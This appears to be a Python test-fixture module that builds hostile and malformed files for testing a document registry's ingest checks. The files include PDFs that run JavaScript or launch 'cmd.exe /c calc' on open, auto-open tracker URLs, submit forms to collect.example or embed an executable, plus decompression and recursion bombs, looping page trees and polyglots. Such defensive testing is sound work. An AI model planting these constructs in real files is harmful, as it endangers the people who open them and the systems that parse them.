"""Hostile and broken originals, generated in the test (no binary fixtures).

Each function returns the bytes of one kind of bad file a registry receives by
accident or on purpose: damaged PDFs, PDFs with active content, bombs, images with
lying headers, polyglots. The PDFs are written object by object so every byte is
what the test means it to be.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

from PIL import Image

from tests.ingest import originals
from tests.ingest.originals import pdf_from_objects


def _stream(data: bytes, *, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def text_pdf(lines: Sequence[str], *, catalog_extra: bytes = b"", more: Sequence[bytes] = ()) -> bytes:
    """A one-page born-digital PDF (Helvetica); ``more`` objects are numbered from 6."""
    body = "BT /F1 12 Tf 72 770 Td 14 TL " + " ".join(f"({line}) Tj T*" for line in lines) + " ET"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            _stream(body.encode("latin-1")),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            *more,
        ]
    )


REQUEST_LINES = (
    "Request for mutual legal assistance",
    "The Office of the Prosecutor requests the bank records of the suspect,",
    "pursuant to article 46 of the United Nations Convention against Corruption.",
)


def truncated_pdf() -> bytes:
    """The first half of a valid PDF (a copy that stopped)."""
    data = text_pdf(REQUEST_LINES)
    return data[: len(data) // 2]


def corrupt_pdf() -> bytes:
    """A PDF header, then bytes that are no PDF structure, then an end marker."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


def header_only_pdf() -> bytes:
    return b"%PDF-1.4\n%%EOF\n"


def pdf_without_pages() -> bytes:
    return pdf_from_objects([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_with_javascript() -> bytes:
    """A readable request whose catalog runs JavaScript when opened (and a document-level script)."""
    return text_pdf(
        REQUEST_LINES,
        catalog_extra=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(open) 6 0 R] >> >>",
        more=[b"<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\);) >>"],
    )


def pdf_launching_a_program() -> bytes:
    """A readable request that starts a program when opened (/OpenAction of type /Launch)."""
    return text_pdf(
        REQUEST_LINES,
        catalog_extra=b"/OpenAction 6 0 R",
        more=[b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"],
    )


def pdf_opening_a_web_address() -> bytes:
    """A readable request that opens a web address by itself when opened (inline /URI open action)."""
    return text_pdf(REQUEST_LINES, catalog_extra=b"/OpenAction << /S /URI /URI (http://tracker.example/x) >>")


def pdf_opening_a_web_address_with_its_page() -> bytes:
    """A web address opened when the page is shown (/AA of the catalog, by reference)."""
    return text_pdf(
        REQUEST_LINES,
        catalog_extra=b"/AA << /WC 6 0 R /DP 6 0 R >>",
        more=[b"<< /Type /Action /S /URI /URI (http://tracker.example/y) >>"],
    )


def pdf_opening_a_web_address_from_an_object_stream() -> bytes:
    """The same /URI page action with the catalog and the action kept in a compressed object
    stream (PDF 1.5, as qpdf and most producers now write), rewritten by pikepdf."""
    import pikepdf

    source = pikepdf.open(io.BytesIO(pdf_opening_a_web_address_with_its_page()))
    out = io.BytesIO()
    source.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def pdf_submitting_a_form() -> bytes:
    """A form action that sends data out of the file (/SubmitForm), in a link of the catalog."""
    return text_pdf(
        REQUEST_LINES,
        catalog_extra=b"/Names << /Dests 6 0 R >>",
        more=[b"<< /Type /Action /S /SubmitForm /F (http://collect.example/) >>"],
    )


def pdf_with_a_web_link() -> bytes:
    """A plain link a reader clicks (a letterhead's web site): accepted, like a printed address."""
    return text_pdf(
        REQUEST_LINES,
        catalog_extra=b"/OpenAction [3 0 R /Fit] /Names << /Links 6 0 R >>",
        more=[
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
            b"/A << /S /URI /URI (https://mfa.example) >> >>"
        ],
    )


def pdf_with_embedded_file() -> bytes:
    """A readable request carrying an attached file (which would not be processed)."""
    attached = b"MZ\x90\x00 an executable, or an annex of evidence"
    return text_pdf(
        REQUEST_LINES,
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(annex.exe) 6 0 R] >> >>",
        more=[
            b"<< /Type /Filespec /F (annex.exe) /UF (annex.exe) /EF << /F 7 0 R >> >>",
            _stream(attached, extra=b"/Type /EmbeddedFile"),
        ],
    )


def pdf_with_javascript_and_embedded_files() -> bytes:
    """A readable request running JavaScript when opened, carrying two attached PDFs (which
    would otherwise become its annexes)."""
    return text_pdf(
        REQUEST_LINES,
        catalog_extra=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(open) 6 0 R] >> "
        b"/EmbeddedFiles << /Names [(order.pdf) 7 0 R (list.pdf) 9 0 R] >> >>",
        more=[
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\);) >>",
            b"<< /Type /Filespec /F (order.pdf) /UF (order.pdf) /EF << /F 8 0 R >> >>",
            _stream(originals.pdf(1), extra=b"/Type /EmbeddedFile"),
            b"<< /Type /Filespec /F (list.pdf) /UF (list.pdf) /EF << /F 10 0 R >> >>",
            _stream(originals.pdf(2), extra=b"/Type /EmbeddedFile"),
        ],
    )


def damaged_zip() -> bytes:
    """The start of a ZIP archive whose directory is missing."""
    return originals.zip_of([("letter.pdf", originals.pdf(1))])[:60]


def pdf_claiming_pages(count: int = 100_000) -> bytes:
    """One real page under a page tree whose /Count claims ``count`` pages."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def pdf_page_tree_loop() -> bytes:
    """A page tree whose node lists itself as its own kid."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def pdf_deeply_nested() -> bytes:
    """An object nested 50,000 arrays deep (a parser recursion bomb)."""
    nested = b"[" * 50_000 + b"]" * 50_000
    return text_pdf(REQUEST_LINES, catalog_extra=b"/Nested " + nested)


def pdf_stream_bomb(decoded_bytes: int = 512 * 1024 * 1024) -> bytes:
    """A page whose content stream is ``decoded_bytes`` of spaces compressed to about 0.1 %."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    packed = b"".join(compressor.compress(chunk) for _ in range(decoded_bytes // len(chunk)))
    packed += compressor.compress(b"BT /F1 12 Tf 72 770 Td (bomb) Tj ET") + compressor.flush()
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            _stream(packed, extra=b"/Filter /FlateDecode"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def png_bomb(side: int = 40_000) -> bytes:
    """A valid PNG of ``side`` x ``side`` black 1-bit pixels: a few hundred kB, gigapixels decoded."""
    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    compressor = zlib.compressobj(9)
    packed = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return _png(side, side, bit_depth=1, colour_type=0, idat=packed)


def _png(width: int, height: int, *, bit_depth: int, colour_type: int, idat: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def png_lying_header() -> bytes:
    """A PNG whose header (checksum correct) says 2000 x 2000, with the pixel data of 40 x 30."""
    small = zlib.compress((b"\x00" + b"\xc8" * 40) * 30)
    return _png(2000, 2000, bit_depth=8, colour_type=0, idat=small)


def png_text_bomb() -> bytes:
    """A small PNG carrying a compressed text chunk that inflates to 64 MB."""
    data = originals.image("PNG")
    packed = zlib.compress(b"A" * (64 * 1024 * 1024), 9)
    body = b"Comment\x00\x00" + packed
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    end = data.rindex(b"IEND") - 4
    return data[:end] + chunk + data[end:]


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims ``width`` x ``height``."""
    data = bytearray(originals.image("JPEG", size=(40, 30)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def tiff_with_pages(count: int = 10_000) -> bytes:
    """A little-endian TIFF with ``count`` 1 x 1 pages sharing one strip, written IFD by IFD."""
    out = bytearray(b"II*\x00" + struct.pack("<I", 8))
    entries = [
        (256, 3, 1, 1),  # ImageWidth
        (257, 3, 1, 1),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # Photometric: black is zero
        (273, 4, 1, 0),  # StripOffsets (patched below)
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 3, 1, 1),  # RowsPerStrip
        (279, 4, 1, 1),  # StripByteCounts
    ]
    ifd_size = 2 + 12 * len(entries) + 4
    strip = 8 + ifd_size * count
    for index in range(count):
        out += struct.pack("<H", len(entries))
        for tag, kind, number, given in entries:
            value = strip if tag == 273 else given
            if kind == 3:
                out += struct.pack("<HHIHH", tag, kind, number, value, 0)
            else:
                out += struct.pack("<HHII", tag, kind, number, value)
        following = 8 + ifd_size * (index + 1) if index + 1 < count else 0
        out += struct.pack("<I", following)
    out += b"\x80"
    return bytes(out)


def tiff_ifd_loop() -> bytes:
    """A two-page TIFF whose second page points back to the first (an endless page chain)."""
    data = bytearray(tiff_with_pages(2))
    ifd_size = 2 + 12 * 9 + 4
    last_next = 8 + ifd_size * 2 - 4
    data[last_next : last_next + 4] = struct.pack("<I", 8)
    return bytes(data)


def truncated_tiff() -> bytes:
    data = originals.image("TIFF", size=(400, 300), frames=2)
    return data[: len(data) // 3]


def pdf_zip_polyglot() -> bytes:
    """A valid PDF that is also a ZIP archive (a ZIP appended after %%EOF; unzip reads it)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.js", "WScript.Echo('polyglot')\n" * 400)
    return text_pdf(REQUEST_LINES) + buffer.getvalue()


def zip_with_pdf_inside_header() -> bytes:
    """A ZIP archive whose first member's name carries a PDF header (PDF readers find it)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("%PDF-1.7 request.txt", text_pdf(REQUEST_LINES))
    return buffer.getvalue()


def png_then_pdf_polyglot() -> bytes:
    """A valid PNG followed by a whole PDF (image viewers show the PNG, PDF readers the PDF)."""
    return originals.image("PNG", size=(200, 100)) + text_pdf(REQUEST_LINES)


def html_file() -> bytes:
    return b"<!DOCTYPE html><html><script>alert(1)</script><p>Request</p></html>"


def windows_executable() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00" + b"\x00" * 200


def gif_image() -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (40, 30), 200).save(buffer, format="GIF")
    return buffer.getvalue()


def damaged_png() -> bytes:
    data = bytearray(originals.image("PNG", size=(200, 200)))
    index = data.index(b"IDAT") + 8
    data[index : index + 4] = b"\x00\x00\x00\x00"
    return bytes(data)


def pdf_with_image(width: int, height: int, packed_pixels: bytes) -> bytes:
    """A page showing one Flate-compressed grey image XObject that declares ``width`` x ``height``."""
    drawing = b"q 595 0 0 842 0 0 cm /Im1 Do Q"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>",
            _stream(drawing),
            _stream(
                packed_pixels,
                extra=b"/Type /XObject /Subtype /Image /Width %d /Height %d "
                b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode" % (width, height),
            ),
        ]
    )


def pdf_huge_image() -> bytes:
    """A page image that declares 60,000 x 60,000 pixels (3.6 gigapixels to decode)."""
    return pdf_with_image(60_000, 60_000, zlib.compress(b"\xff" * 60_000))


def pdf_image_bomb() -> bytes:
    """A 100 x 100 page image whose data inflates to 300 MB."""
    compressor = zlib.compressobj(9)
    chunk = b"\xff" * (1024 * 1024)
    packed = b"".join(compressor.compress(chunk) for _ in range(300)) + compressor.flush()
    return pdf_with_image(100, 100, packed)


def random_bytes() -> bytes:
    return bytes((index * 7919 + 13) % 251 for index in range(4096))


def jpeg_with_trailer() -> bytes:
    """A JPEG followed by a few bytes of camera trailer (legitimate: no other file's signature)."""
    return originals.image("JPEG", size=(400, 300)) + b"\x00\x00SEFT trailer of a phone camera\x00"
